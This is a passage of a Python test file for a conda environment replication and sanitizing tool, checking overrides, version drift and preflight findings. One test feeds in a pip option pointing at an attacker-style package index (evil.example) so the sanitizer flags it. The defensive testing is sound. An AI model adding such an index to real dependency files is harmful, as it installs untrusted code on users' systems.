    assert {(f.rule, f.severity) for f in result.findings} == {(Rule.LOCAL_SOURCE, ERROR), (Rule.DIRECT_URL, ERROR)}


# --- override, history and preflight on the demo site --------------------------------------------


def env_named(site: Site, name: str) -> Environment:
    return next(e for e in load_manifest(site.manifest) if e.name == name)


def test_from_history_gives_the_specs_users_asked_for(demo_site: Site) -> None:
    spec = export_from_history(demo_site, "super_important_jupyter_kernel")
    assert spec.dependencies == ["datefmt >=1.0", "ipykernel", "pip", "python", "tabular"] and spec.pip == []
    assert export_from_history(demo_site, "nhis_reformat").pip == ["codebook==1.2.0"]


def test_an_override_replaces_the_export_and_says_what_it_fixed(demo_site: Site) -> None:
    built, findings = plan_environment(demo_site, env_named(demo_site, "missing_pin"))
    assert built.source is PlanSource.OVERRIDE and "ipumsdata=0.4.1" in built.conda
    by_rule = {(f.rule, f.package): f for f in findings}
    assert by_rule[(Rule.OVERRIDE, "ipumsdata")].action == "ipumsdata=0.4.1 instead of ipumsdata=0.4.0"
    fixed = by_rule[(Rule.MISSING_VERSION, "ipumsdata")]
    assert fixed.severity is INFO and fixed.action == "fixed by the override" and "0.4.1, 0.5.0" in fixed.reason


def write_override(site: Site, env: str, pip: list[str]) -> Path:
    path = override_path(site, env)
    lines = [f"name: {env}", "channels: [main, mpc]", "dependencies:", "  - python", "  - pip", "  - tabular=1.1.0",
             "  - pip:", *(f"    - {line}" for line in pip)]
    path.write_text("\n".join(lines) + "\n")
    return path


def test_relative_paths_in_an_override_resolve_against_the_override_folder(demo_site: Site) -> None:
    path = write_override(demo_site, "nhis_reformat", ["./pkg", "-e ../src", "codebook==1.2.0"])
    overrides, manifests = path.parent, path.parent.parent
    (overrides / "pkg").mkdir()
    (manifests / "src").mkdir()
    env = env_named(demo_site, "nhis_reformat")
    built, findings = plan_environment(demo_site, env)
    assert built.pip == ("codebook==1.2.0",) and built.post == ()  # not allowed on this environment
    refused = {f.package: f for f in findings if f.severity is ERROR}
    assert {f.rule for f in refused.values()} == {Rule.LOCAL_SOURCE}
    assert str(overrides / "pkg") in refused["pkg"].reason and str(manifests / "src") in refused["src"].reason
    toml = demo_site.manifest.with_suffix(".toml")
    toml.write_text(toml.read_text().replace("[nhis_reformat]\n", "[nhis_reformat]\nlocal_sources = true\n"))
    built, findings = plan_environment(demo_site, env_named(demo_site, "nhis_reformat"))
    assert [s.requirement for s in built.post] == [str(overrides / "pkg"), f"-e {manifests / 'src'}"]
    assert not [f for f in findings if f.severity is ERROR]
    (overrides / "pkg").rmdir()  # gone on disk: planning's present no longer lists it
    _, findings = plan_environment(demo_site, env_named(demo_site, "nhis_reformat"))
    [gone] = [f for f in findings if f.severity is ERROR]
    assert gone.rule is Rule.DIRECT_URL and "no longer exists" in gone.reason


@pytest.mark.parametrize(("line", "folder"), [("-e .", "."), ("-e src", "src")])
def test_a_bare_relative_folder_in_an_override_is_a_local_source_too(demo_site: Site, line: str, folder: str) -> None:
    """pip reads `-e .` and `-e src` as folders, relative to where it runs (the qualifier's folder):
    they resolve against the override's folder and need local_sources like ./pkg."""
    path = write_override(demo_site, "nhis_reformat", [line, "codebook==1.2.0"])
    target = (path.parent / folder).resolve()
    target.mkdir(exist_ok=True)
    (target / "setup.py").write_text("raise SystemExit('ran the override folder')\n")
    built, findings = plan_environment(demo_site, env_named(demo_site, "nhis_reformat"))
    assert built.post == ()
    assert [f.rule for f in findings if f.severity is ERROR] == [Rule.LOCAL_SOURCE]
    toml = demo_site.manifest.with_suffix(".toml")
    toml.write_text(toml.read_text().replace("[nhis_reformat]\n", "[nhis_reformat]\nlocal_sources = true\n"))
    built, _ = plan_environment(demo_site, env_named(demo_site, "nhis_reformat"))
    assert [s.requirement for s in built.post] == [f"-e {target}"]


def test_without_its_override_a_missing_pin_stops_at_preflight_without_a_solve(demo_site: Site) -> None:
    demo_site = replace(demo_site, rescue=False)  # ipumsdata 0.4.0 is in current's cache: no rescue
    override_path(demo_site, "missing_pin").unlink()
    with pytest.raises(BuildError) as caught:
        replicate(demo_site, sandbox_for(demo_site), env_named(demo_site, "missing_pin"))
    assert caught.value.stage is Stage.PREFLIGHT and "nearest available: 0.4.1, 0.5.0" in str(caught.value)
    assert caught.value.log is not None
    assert "specs against" not in Path(caught.value.log).read_text()  # the engine never started a solve
    saved = load_findings(demo_site, "missing_pin")
    assert saved is not None
    assert [f.rule for f in saved.findings if f.severity is ERROR] == [Rule.MISSING_VERSION] and not saved.override


def test_a_history_build_lists_its_drift(kernel_site: Site) -> None:
    """The build the plugin runs (qualification/builds.py) adds the drift to the findings it saves.
    It edits a record of current's hlink, so it gets a site of its own."""
    demo_site = kernel_site
    toml = demo_site.manifest.with_suffix(".toml")
    toml.write_text(toml.read_text().replace('[hlink]\n', '[hlink]\nstrategy = "history"\n'))
    env = env_named(demo_site, "hlink")
    built = builds.build(demo_site, sandbox_for(demo_site), env)
    assert built.plan.source is PlanSource.HISTORY and built.plan.conda == ("ipykernel", "linkage", "pip", "python")
    assert any(f.rule is Rule.HISTORY and f.package == "*" for f in built.findings)
    drift = [f for f in built.findings if f.rule is Rule.HISTORY and f.package != "*"]
    assert drift == []  # the newest versions are the ones current has: nothing moved
    doctored = demo_site.root / "v4.3" / "envs" / "hlink" / "conda-meta"
    record = next(doctored.glob("tabular-2.0.0-*.json"))
    record.rename(record.with_name("tabular-1.1.0-pyh_0.json"))
    record = record.with_name("tabular-1.1.0-pyh_0.json")
    record.write_text(record.read_text().replace('"version": "2.0.0"', '"version": "1.1.0"'))
    again = builds.build(demo_site, sandbox_for(demo_site), env)
    [moved] = [f for f in again.findings if f.rule is Rule.HISTORY and f.package != "*"]
    assert moved.package == "tabular" and moved.action == "1.1.0 -> 2.0.0"
    saved = load_findings(demo_site, "hlink")
    assert saved is not None
    assert "tabular" in explained_packages(saved.findings)


def test_history_drift_names_moved_and_vanished_packages() -> None:
    def contents(conda: Iterable[tuple[str, str]], pip: Iterable[tuple[str, str]] = ()) -> PrefixContents:
        return PrefixContents(Path("/e"), tuple(CondaPackage(n, v, "0", "https://x/chan", "noarch") for n, v in conda),
                              tuple(PipDistribution(n, v, Path(f"/sp/{n}-{v}.dist-info"), None) for n, v in pip),
                              Path("/sp"))

    current = contents([("tabular", "1.1.0"), ("datefmt", "1.0.0"), ("six", "1.0")], [("codebook", "1.2.0")])
    built = contents([("tabular", "2.0.0"), ("datefmt", "1.0.0")], [("codebook", "1.2.0")])
    found = {f.package: f for f in history_drift("env1", current, built)}
    assert set(found) == {"tabular", "six"}
    assert found["tabular"].action == "1.1.0 -> 2.0.0" and found["tabular"].severity is INFO
    assert found["six"].action == "1.0 -> missing" and found["six"].severity is WARNING
    assert history_drift("env1", current, current) == []


def test_a_foreign_file_with_the_site_channels_gets_the_preflight(demo_site: Site, tmp_path: Path) -> None:
    exported = tmp_path / "missing_pin.yml"
    exported.write_text("name: missing_pin\nchannels: [mpc]\ndependencies:\n  - ipumsdata=0.4.0=pyh_0\n")
    index = RepodataIndex(demo_site)
    legacy = load_legacy(legacy_path(demo_site))
    result = sanitize_file(exported, index=index, legacy=legacy)
    assert result.spec.dependencies == ["ipumsdata=0.4.0"]
    [missing] = [f for f in result.findings if f.rule is Rule.MISSING_VERSION]
    assert missing.severity is ERROR and str(exported) in missing.hint  # fixed in the file itself


def test_the_sanitize_command_runs_the_preflight_only_with_a_site(
        demo_site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    exported = tmp_path / "old.yml"
    exported.write_text("name: old\nchannels: [mpc]\ndependencies: [python, ipumsdata=0.4.0=pyh_0]\n")
    out = tmp_path / "out"
    assert main(["sanitize", str(exported), "--out", str(out)]) == 0
    assert "1 finding;" in capsys.readouterr().out
    assert main(["sanitize", str(exported), "--site", str(demo_site.file), "--out", str(out)]) == 1
    assert "2 findings, 1 error;" in capsys.readouterr().out
    assert main(["--site", str(demo_site.file), "sanitize", str(exported), "--out", str(out)]) == 1
    assert "nearest available: 0.4.1, 0.5.0" in (out / "old.findings.json").read_text()
    assert load_spec(out / "old.yml").dependencies == ["python", "ipumsdata=0.4.0"]


def test_the_sanitize_command_prints_each_error_findings_reason(
        demo_site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    exported = tmp_path / "old.yml"
    exported.write_text("name: old\nchannels: [mpc]\ndependencies: [python, ipumsdata=0.4.0=pyh_0]\n")
    assert main(["sanitize", str(exported), "--site", str(demo_site.file), "--out", str(tmp_path / "out")]) == 1
    out = capsys.readouterr().out
    assert "  error missing-version ipumsdata: ipumsdata=0.4.0: no such version in mpc" in out
    assert "nearest available: 0.4.1, 0.5.0" in out


def test_sanitize_with_a_site_says_the_preflight_skipped_an_unreachable_channel(
        demo_site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """As pytest's preflight does: a channel that cannot be read is said, not 0 findings in silence."""
    text = demo_site.file.read_text()
    demo_site.file.write_text(text.replace('channels = ["main", "mpc"]',
                                           'channels = ["main", "mpc", "http://127.0.0.1:9/gone"]'))
    assert "127.0.0.1:9" in demo_site.file.read_text()
    exported = tmp_path / "fine.yml"
    exported.write_text("name: fine\nchannels: [mpc]\ndependencies: [python, ipumsdata=0.4.1]\n")
    assert main(["sanitize", str(exported), "--site", str(demo_site.file), "--out", str(tmp_path / "out")]) == 0
    out, err = capsys.readouterr()
    assert "warning: preflight skipped for channel http://127.0.0.1:9/gone" in err
    assert "1 warning" in out and "preflight cannot tell" in (tmp_path / "out" / "fine.findings.json").read_text()


def test_the_sanitize_command_fails_a_file_with_an_extra_index_unless_the_site_gives_it(
        demo_site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    exported = tmp_path / "wheels.yml"
    exported.write_text("name: wheels\nchannels: [main]\ndependencies:\n  - python\n  - pip\n  - pip:\n"
                        "    - --extra-index-url https://evil.example/simple\n"
                        f"    - --find-links {demo_site.root}/wheelhouse\n    - codebook==1.2.0\n")
    out = tmp_path / "out"
    assert main(["sanitize", str(exported), "--out", str(out)]) == 1
    assert "2 errors" in capsys.readouterr().out
    assert main(["sanitize", "--site", str(demo_site.file), str(exported), "--out", str(out)]) == 1
    assert "1 error" in capsys.readouterr().out  # the site gives --find-links {root}/wheelhouse, not the index
    saved = json.loads((out / "wheels.findings.json").read_text())
    assert {f["package"]: f["severity"] for f in saved["findings"] if f["rule"] == "pip-options"} == {
        "--extra-index-url https://evil.example/simple": "error",
        f"--find-links {demo_site.root}/wheelhouse": "info"}
    assert load_spec(out / "wheels.yml").pip == ["codebook==1.2.0"]
